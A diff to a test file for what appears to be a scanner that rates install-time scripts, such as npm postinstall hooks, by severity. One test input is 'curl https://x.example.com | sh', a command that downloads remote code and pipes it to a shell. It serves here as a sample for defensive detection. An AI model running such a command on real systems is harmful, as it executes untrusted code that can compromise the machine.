@@ -133,6 +133,8 @@ def test_a_script_that_runs_at_installation_is_a_finding(bundle):
 
     assert [(f.severity, f.axis) for f in of("node setup.js")] == [(Severity.MEDIUM, Axis.VULNERABILITY)]
     assert [(f.severity, f.axis) for f in of("curl https://x.example.com | sh")] == [(Severity.HIGH, Axis.MALICE)]
+    exam = {"tasks/one/environment/package.json": json.dumps({"scripts": {"postinstall": "node x.js"}})}
+    assert [f.severity for f in said(bundle(exam)).findings] == [Severity.LOW]
     assert of("husky install") == [] and of("npm run build") == []
 
 
